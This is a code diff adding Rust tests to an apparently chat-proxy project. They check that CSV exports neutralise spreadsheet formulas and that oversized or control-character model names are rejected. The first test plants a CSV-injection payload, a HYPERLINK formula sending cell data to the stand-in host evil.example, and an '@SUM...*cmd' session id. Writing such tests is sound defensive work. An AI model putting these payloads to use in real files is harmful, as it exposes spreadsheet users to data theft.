@@ -1218,3 +1218,95 @@ fn the_store_section_is_read_and_checked() {
         Path::new("/data/kimi-proxy.db")
     );
 }
+
+/// What a client plants (its last message becomes the preview, its session id is stored) must not run as a
+/// formula when an export is opened in a spreadsheet: through the API and through the command line.
+#[tokio::test]
+async fn csv_exports_neutralise_formulas() {
+    let (_mock, proxy) = setup("").await;
+    let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
+    chat(
+        &proxy,
+        json!([user(formula)]),
+        &[("x-session-id", "@SUM(1+1)*cmd")],
+    )
+    .await;
+    chat(&proxy, json!([user("+1-1")]), &[("x-session-id", "-2+3")]).await;
+    wait_written(&proxy, 2).await;
+    let check = |csv: &str| {
+        for line in csv.lines().skip(1) {
+            // Split the simple way: a neutralised cell is quoted and starts with `'`.
+            for cell in line.split(',') {
+                let bare = cell.trim_start_matches('"');
+                assert!(
+                    !bare.starts_with(['=', '+', '-', '@', '\t']),
+                    "a cell starts a formula: {cell:?} in {line}"
+                );
+            }
+        }
+    };
+    let csv = client()
+        .get(proxy.url("/api/export?format=csv"))
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    check(&csv);
+    assert!(csv.contains("\"'=HYPERLINK"), "{csv}");
+    assert!(csv.contains("\"'@SUM(1+1)*cmd\""), "{csv}");
+    let (_, list) = get(&proxy, "/api/sessions").await;
+    for session in list["data"].as_array().unwrap() {
+        let id = session["id"].as_i64().unwrap();
+        let output = std::process::Command::new(common::BIN)
+            .args([
+                "sessions",
+                "export",
+                &id.to_string(),
+                "--format",
+                "csv",
+                "--db",
+            ])
+            .arg(proxy.db_path())
+            .env_clear()
+            .output()
+            .unwrap();
+        assert!(output.status.success());
+        let csv = String::from_utf8(output.stdout).unwrap();
+        assert!(csv.lines().count() >= 2, "{csv}");
+        check(&csv);
+    }
+}
+
+#[tokio::test]
+async fn a_sessions_model_is_bounded() {
+    let (_mock, proxy) = setup("").await;
+    let huge = "m".repeat(100 * 1024);
+    let (status, body) = send(
+        &proxy,
+        "POST",
+        "/api/sessions",
+        Some(json!({"name": "big", "model": huge})),
+    )
+    .await;
+    assert_eq!(status, 400, "{body}");
+    assert_eq!(body["error"]["code"], "invalid_parameter", "{body}");
+    let (status, _) = send(
+        &proxy,
+        "POST",
+        "/api/sessions",
+        Some(json!({"name": "ctl", "model": "a\u{7}b"})),
+    )
+    .await;
+    assert_eq!(status, 400);
+    let (status, created) = send(
+        &proxy,
+        "POST",
+        "/api/sessions",
+        Some(json!({"name": "fine", "model": " moonshot/kimi-k2.5 "})),
+    )
+    .await;
+    assert_eq!(status, 201, "{created}");
+    assert_eq!(created["model"], "moonshot/kimi-k2.5", "{created}");
+}
